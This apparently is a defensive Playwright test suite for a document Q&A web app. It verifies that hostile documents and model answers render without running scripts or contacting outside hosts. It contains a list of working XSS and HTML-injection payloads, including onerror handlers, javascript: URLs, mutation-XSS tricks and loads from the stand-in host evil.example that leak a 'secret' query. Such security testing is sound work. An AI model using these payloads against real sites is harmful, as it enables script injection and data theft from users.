"""Hostile documents and models: the browser runs none of their scripts and connects to no other host."""

import json

import pytest
from playwright.sync_api import Page, expect

from api.page.answer_html import AnswerRenderer, answer_html
from api.page.document_html import render_document
from ingest.readers.parse import parse_document
from tests.kit.browser import QUESTION, OpenPage, answered
from tests.kit.openai_scripts import completion
from tests.kit.openai_server import OpenAIServer
from tests.kit.processes import Server

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/a.png'>",
    "![x](https://evil.example/a.png?q=secret)",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x'></object>",
    "<embed src='https://evil.example/x'>",
    "<video autoplay src='https://evil.example/v.mp4' onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'; *{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/c)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><button autofocus onfocus=alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<div id=panel><input name=attributes></div><form id=composer></form>",
    "**[x](javascript:alert(1))** > - [ ] `<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | [x](vbscript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | x |",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x] [1][x]",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


def place_all(page: Page, fragments: list[str]) -> int:
    """Put each piece of HTML into the page as the page itself does, and return the number of all elements."""
    return int(
        page.evaluate(
            """async fragments => {
                const { setHtml } = await import("/static/dom.js");
                const stage = document.getElementById("conversation");
                document.body.classList.remove("empty");
                let count = 0;
                for (const html of fragments) {
                    const block = document.createElement("div");
                    stage.append(block);
                    setHtml(block, html);
                    for (const element of block.querySelectorAll("a, button, [tabindex]")) {
                        element.focus();
                        if (!element.target) element.click();
                    }
                    count += block.querySelectorAll("*").length;
                    block.remove();
                }
                // What the pieces have loaded fails before an image that is asked for after them.
                for (const turn of [1, 2]) {
                    await new Promise(resolve => {
                        const last = new Image();
                        last.onerror = resolve;
                        last.src = `/static/no-such-image-${turn}.png`;
                    });
                }
                return count;
            }""",
            fragments,
        )
    )


def test_every_state_of_every_hostile_answer_is_harmless_in_the_page(open_page: OpenPage) -> None:
    states: set[str] = set()
    for payload in PAYLOADS:
        for split in range(len(payload) + 1):
            markup = AnswerRenderer([1])
            for piece in (payload[:split], payload[split:], " [1]"):
                states.update(markup.feed(piece).html)
        states.update(answer_html(f"{payload} [1]", [1], [payload]))
    assert len(states) > 1500
    assert place_all(open_page(), sorted(states)) > len(states)


def test_every_hostile_document_is_harmless_in_the_page(open_page: OpenPage) -> None:
    documents = [f"# Head\n\n{payload}\n\ntext {payload} text\n\n> {payload}\n" for payload in PAYLOADS]
    rendered = [
        render_document(parse_document(source, text.encode())).html(range(1, 9), id_prefix="doc-")
        for text in documents
        for source in ("a.md", "a.mdx", "a.txt", "a.html")
    ]
    assert place_all(open_page(), rendered) > len(rendered)


@pytest.mark.parametrize("pieces", [1, 7])
def test_a_model_that_writes_all_of_them_does_no_harm(
    open_page: OpenPage, chat_endpoint: OpenAIServer, pieces: int
) -> None:
    text = "知名的向量数据库组件有 Milvus [1]。\n\n" + "\n\n".join(f"{payload} [1]" for payload in PAYLOADS)
    size = pieces if pieces > 1 else len(text)
    chat_endpoint.play(completion(*(text[start : start + size] for start in range(0, len(text), size))))
    page = open_page()
    turn = answered(page, QUESTION)
    expect(turn.locator(".answer")).to_contain_text("Milvus")
    # A conversation from the browser's storage is rendered in the same way.
    page.reload()
    expect(page.locator(".turn .answer")).to_contain_text("Milvus")
    assert page.locator(".answer :is(script, img, svg, iframe, style, form, input)").count() == 0
    links = page.locator(".answer a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert not [link for link in links if "evil" in link or not link.startswith("http")], json.dumps(links)


def test_hostile_documents_are_ingested_asked_about_and_read(open_page: OpenPage, talking_server: Server) -> None:
    body = "\n".join(f"- {payload}".replace("\n", "\n  ") for payload in PAYLOADS)
    talking_server.workspace.write(
        "hostile.md", f"---\ntitle: <script>alert(1)</script>\n---\n\n# <img src=x onerror=alert(1)>\n\n{body}\n"
    )
    talking_server.workspace.write("hostile<b>.html", "<h1>Hostile</h1>\n" + "\n\n".join(PAYLOADS[:6]))
    state = talking_server.ingest()
    assert state["error"] is None
    for path in (
        "/docs/hostile.md?lines=1-200#passage",
        "/docs/hostile%3Cb%3E.html",
        "/knowledge",
        "/docs/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ):
        page = open_page(path)
        page.wait_for_load_state("networkidle")
        assert page.locator("main :is(script, img, iframe, style)").count() == 0
        for control in page.locator("main :is(a, summary, [tabindex='0'])").all()[:30]:
            control.focus()
    page = open_page("/knowledge")
    page.locator("summary", has_text="<script>alert(1)</script>").click()
    expect(page.locator(".outline a").first).to_be_visible()
